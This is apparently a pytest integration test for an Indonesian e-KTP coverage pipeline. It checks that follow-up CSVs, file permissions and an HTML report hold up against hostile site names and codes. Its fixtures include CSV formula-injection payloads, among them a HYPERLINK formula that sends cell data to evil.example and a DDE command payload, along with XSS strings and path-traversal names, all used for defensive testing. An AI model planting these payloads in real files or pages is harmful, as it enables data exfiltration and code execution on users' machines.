"""What a night writes for people stays safe whatever the devices wrote (docs/security.md, "What the outputs do with
device text").

One landed night whose site codes, site names, names, ids and captured text are hostile: a 300-character site
code, codes with ``/``, ``..``, control characters and emoji, codes that meet once made safe, an empty code,
spreadsheet formulas, and HTML that ends or opens script elements. It runs with the DAG's own task callables
under a umask of 0. Then:

* every site has its follow-up file, under a short name of its own, and a rerun of the date works too;
* LibreOffice, told to evaluate formulas, opens every follow-up CSV and finds no formula in any cell;
* the warehouse, its -wal/-shm, and the follow-up folders and files are for their owner only;
* Chromium opens the report (with hostile kelurahan and kecamatan names too): the data island parses to the
  data the report was made from, and nothing from the data runs or becomes an element.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import stat
import subprocess
import xml.etree.ElementTree as ET
from datetime import date
from pathlib import Path

import pytest
import sqlalchemy as sa

from tests.conftest import fetch
from tests.integration.pipeline_runner import run_date
from tests.integration.test_report import CHROMIUM, CHROMIUM_ARGS

pytestmark = pytest.mark.slow

DAY = "2027-01-11"
AT = f"{DAY}T09:00:00+07:00"
HEADER = ["batch_id", "site_code", "site_name", "operator_id", "recorded_at", "nik", "full_name", "birth_date", "sex",
          "kelurahan_code"]
RESIDENTS = [("3174022308900001", "Budi Santoso", "1990-08-23", "L", "31.74.02.1001"),
             ("3174026512050002", "Siti Aminah", "2005-12-25", "P", "31.74.02.1001"),
             *[(f"31740215010000{k}", f"Warga {k}", "2000-01-15", "L", f"31.74.02.10{k - 9:02d}")
               for k in range(11, 18)]]  # one resident in each other kelurahan of the kecamatan
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
FORMULAS = [HYPERLINK, "+1+2", "-2+3", "@SUM(1+1)", "\t=1+1", "=cmd|' /C calc'!A0", "\uff1d1+1", "-1"]
SCRIPTS = ["<!--<script>", "</script><script>window.__pwned = 1</script>", "<script>alert(1)</script>",
           '<img src=x onerror="window.__pwned = 2">', "Balai\u2028Warga\u2029RW", "a & b > c"]
#: (site code, site name) of each batch file
SITES = [("S" * 300, HYPERLINK), ("RW 01/02", "+1+2 Balai"), ("RW_01_02", "-2+3"), ("../../etc", "@SUM(1+1)"),
         ("SITE\x01\x7f", "\t=1+1"), ("\U0001f3eb SMA 1", SCRIPTS[0]), ("abc", SCRIPTS[1]), ("ABC", SCRIPTS[2]),
         ("CON", SCRIPTS[3]), ("<!--<script>", SCRIPTS[4]), ("SMA-1", SCRIPTS[5])]
SOFFICE = shutil.which("soffice") or "/usr/bin/soffice"


def _write_csv(path: Path, header: list[str], rows: list[list[str]]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([header, *rows])


def _landing(root: Path) -> Path:
    """An extract and one batch file per hostile site, each with a row for each follow-up list."""
    landing = root / "landing"
    _write_csv(landing / "registry" / "2027-01-01" / "unrecorded_residents.csv",
               ["nik", "full_name", "birth_date", "sex", "kelurahan_code"], [list(r) for r in RESIDENTS])
    for i, (code, name) in enumerate(SITES):
        formula = FORMULAS[i % len(FORMULAS)]
        batch = [formula, code, name, FORMULAS[(i + 1) % len(FORMULAS)], AT]
        rows = [[*batch, f"317402230890{i + 10:04d}", formula, "1990-08-23", "L", f"+{i}"],  # not in the extract
                [*batch, formula, f"-{formula}", "1990-08-23", "L", formula],  # nik_format: to record again
                [formula, code, name, "OPR-1", formula, "3174022308900099", "@Budi", "1990-08-23", "L", ""]]
        if i == 0:
            rows += [[*batch, RESIDENTS[0][0], "Budi Santoso", "1990-08-23", "L", ""],  # matched
                     [*batch, RESIDENTS[1][0], "@Siti Aminah", "2005-12-25", "L", ""]]  # identity mismatch
        _write_csv(landing / "batches" / DAY / f"site-{i:02d}.csv", HEADER, rows)
    _write_csv(landing / "batches" / DAY / "no-site.csv", HEADER,  # no site code at all: the site ""
               [["B-1", "", "", "OPR-1", AT, "3174022308900098", "=1+1", "1990-08-23", "L", ""]])
    return landing


@pytest.fixture(scope="module")
def night(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    env = pytest.MonkeyPatch()
    env.setenv("EKTP_LANDING_DIR", str(_landing(root)))
    env.setenv("AIRFLOW_CONN_EKTP_WAREHOUSE", f"sqlite:///{root / 'warehouse.sqlite'}")
    env.setenv("EKTP_REPORT_DIR", str(root / "reports"))
    env.setenv("EKTP_DATA_DOCS_DIR", str(root / "data_docs"))
    env.setenv("EKTP_REPORTS", "on")
    umask = os.umask(0)
    try:
        first = run_date(DAY, reports=True)
        again = run_date(DAY, reports=True)  # a republish of the date writes everything again
    finally:
        os.umask(umask)
        env.undo()
    return root, first, again


def test_every_site_gets_its_own_short_named_list_and_a_rerun_works(night):
    from ektp.core.settings import settings
    from ektp.core.texts import texts
    from ektp.outputs.followup import site_file_name

    root, first, again = night
    url = f"sqlite:///{root / 'warehouse.sqlite'}"
    sites = [s for (s,) in fetch(url, "SELECT site_code FROM ektp_coverage.site_daily WHERE report_date = :d", d=DAY)]
    assert sorted(sites) == sorted([code for code, _ in SITES] + [""])
    folder = root / "reports" / "followup" / DAY
    names = sorted(p.name for p in folder.iterdir())
    assert names == sorted(site_file_name(s) for s in sites)
    assert max(len(n.encode()) for n in names) <= 100
    assert sorted(p.name for p in folder.parent.iterdir()) == [".lock", DAY, "open_items"]  # no .tmp or .old folder
    for run in (first, again):
        (lists,) = run["reports"]["followup"]
        assert lists["csv_files"] == len(sites) and lists["redo"] == 2 * len(SITES) + 1
    site_code = texts(settings().language)("Site code")
    for path in folder.iterdir():  # each file holds the rows of its own site
        with path.open(encoding="utf-8-sig", newline="") as fh:
            codes = {r[site_code].removeprefix("'") for r in csv.DictReader(fh)}
        assert [site_file_name(c) for c in codes] == [path.name]


def _spreadsheet_cells(fods: Path) -> list[tuple[str, bool]]:
    """(text, is a formula) of every cell LibreOffice made."""
    ns = {"table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
          "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0"}
    cells = []
    for cell in ET.parse(fods).getroot().iter(f"{{{ns['table']}}}table-cell"):
        text = "\n".join("".join(p.itertext()) for p in cell.findall("text:p", ns))
        cells.append((text, f"{{{ns['table']}}}formula" in cell.attrib))
    return cells


def test_libreoffice_finds_no_formula_in_any_list(night, tmp_path):
    root, _, _ = night
    assert Path(SOFFICE).exists(), "LibreOffice Calc is needed (.ci/run installs libreoffice-calc-nogui)"
    files = sorted((root / "reports" / "followup" / DAY).glob("*.csv"))
    # comma, double quote, UTF-8, from line 1, English, quoted fields not forced to text, evaluate formulas: on
    options = "CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true"
    subprocess.run([SOFFICE, "--headless", "--norestore", f"-env:UserInstallation={(tmp_path / 'lo').as_uri()}",
                    f"--infilter={options}", "--convert-to", "fods", "--outdir", str(tmp_path / "out"),
                    *map(str, files)], check=True, capture_output=True, timeout=300)
    texts = set()
    for f in files:
        cells = _spreadsheet_cells(tmp_path / "out" / f"{f.stem}.fods")
        assert [t for t, formula in cells if formula] == [], f.name
        texts |= {t for t, _ in cells}
    assert {"'" + HYPERLINK, "'+1+2 Balai", "'-2+3", "'@SUM(1+1)", "'-" + HYPERLINK, "'=1+1"} <= texts
    # the same file with no mark is a formula to LibreOffice: the check above can fail
    raw = tmp_path / "raw.csv"
    _write_csv(raw, ["site_name"], [[HYPERLINK]])
    subprocess.run([SOFFICE, "--headless", "--norestore", f"-env:UserInstallation={(tmp_path / 'lo').as_uri()}",
                    f"--infilter={options}", "--convert-to", "fods", "--outdir", str(tmp_path / "out"), str(raw)],
                   check=True, capture_output=True, timeout=300)
    assert any(formula for _, formula in _spreadsheet_cells(tmp_path / "out" / "raw.fods"))


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.lstat().st_mode)


def test_files_with_niks_are_owner_only_and_reports_group_readable(night):
    root, _, _ = night
    warehouse = sorted(root.glob("warehouse.sqlite*"))
    assert {p.name for p in warehouse} >= {"warehouse.sqlite"}
    assert {p.name: _mode(p) for p in warehouse} == {p.name: 0o600 for p in warehouse}
    followups = root / "reports" / "followup"
    for path in [followups, *followups.rglob("*")]:
        assert _mode(path) == (0o700 if path.is_dir() else 0o600), path
    reports = root / "reports"
    assert _mode(reports) == 0o750
    assert [_mode(p) for p in reports.glob("coverage_*.html")] == [0o640]


def test_no_value_reaches_the_data_docs(night):
    root, _, _ = night
    docs = [p for p in (root / "data_docs").rglob("*") if p.is_file()]
    assert any(p.name == "index.html" for p in docs)
    text = "\n".join(p.read_text(encoding="utf-8", errors="replace") for p in docs)
    for value in ["3174022308900001", "3174026512050002", "Siti Aminah", "@Budi", "klik", "317402230890"]:
        assert value not in text


KELURAHAN_NAMES = [*SCRIPTS, '<a href="javascript:window.__pwned = 3">klik</a>', "<b>tebal</b>"]


def test_the_report_survives_hostile_names_in_a_browser(night, tmp_path):
    from ektp import warehouse as wh
    from ektp.outputs import report
    from playwright.sync_api import sync_playwright

    root, _, _ = night
    assert Path(CHROMIUM).exists(), "Debian's chromium is needed (.ci/run installs it)"
    engine = wh.make_engine(f"sqlite:///{root / 'warehouse.sqlite'}")
    with wh.transaction(engine) as conn:  # names come from the Kemendagri list: as if a hostile list were pinned
        codes = [c for (c,) in conn.execute(sa.text("SELECT kelurahan_code FROM kelurahan_daily "
                                                    "WHERE report_date = :d ORDER BY kelurahan_code"), {"d": DAY})]
        assert codes
        for code, name in zip(codes, KELURAHAN_NAMES * len(codes), strict=False):
            conn.execute(sa.text("UPDATE kelurahan_daily SET kelurahan_name = :n WHERE kelurahan_code = :c"),
                         {"n": name, "c": code})
        conn.execute(sa.text("UPDATE kecamatan_daily SET kecamatan_name = :n"), {"n": SCRIPTS[1]})
    path = report.write_report(engine, date.fromisoformat(DAY), tmp_path)
    want = json.loads(json.dumps(report.load_report_data(engine, date.fromisoformat(DAY))))
    engine.dispose()
    assert {s["site_name"] for s in want["sites"]} >= set(SCRIPTS)

    errors, dialogs = [], []
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            page = browser.new_page()
            page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
            page.on("pageerror", lambda e: errors.append(str(e)))
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.goto(path.as_uri(), wait_until="load")
            page.wait_for_function("document.querySelectorAll('.js-plotly-plot .main-svg').length >= 5")
            got = page.evaluate("""() => ({
                island: JSON.parse(document.getElementById('report-data').textContent),
                pwned: window.__pwned === undefined ? null : window.__pwned,
                scripts: [...document.scripts].map(s => s.id || s.type || 'inline'),
                lastScriptIsTheIsland: document.body.lastElementChild.id === 'report-data',
                footer: !!document.querySelector('body > footer'),
                images: document.querySelectorAll('img, image').length,
                links: [...document.querySelectorAll('a')]
                    .map(a => a.getAttribute('href') || a.getAttribute('xlink:href')),
                siteNames: [...document.querySelectorAll('#table-sites tbody td[data-col="site_name"]')]
                    .map(td => [td.textContent, td.dataset.value]),
                ticks: [...document.querySelectorAll('#chart-kelurahan .ytick text')].map(t => t.textContent),
            })""")
        finally:
            browser.close()
    assert errors == [] and dialogs == []
    assert got["island"] == want
    assert got["pwned"] is None
    assert got["scripts"] == ["plotly-js", "chart-figures", "inline", "report-data"] and got["lastScriptIsTheIsland"]
    assert got["footer"] and got["images"] == 0
    assert not [h for h in got["links"] if h and h.strip().lower().startswith("javascript")], got["links"]
    assert sorted(t for t, _ in got["siteNames"]) == sorted(s["site_name"] for s in want["sites"])
    assert all(shown == value for shown, value in got["siteNames"])
    # chart labels show the names as written: plotly.js made no link, tag or bold text of them
    assert sorted(got["ticks"]) == sorted(f"{r['kelurahan_name']} ({r['kelurahan_code'][-4:]})"
                                          for r in want["kelurahan"])
    assert {r["kelurahan_name"] for r in want["kelurahan"]} == set(KELURAHAN_NAMES)
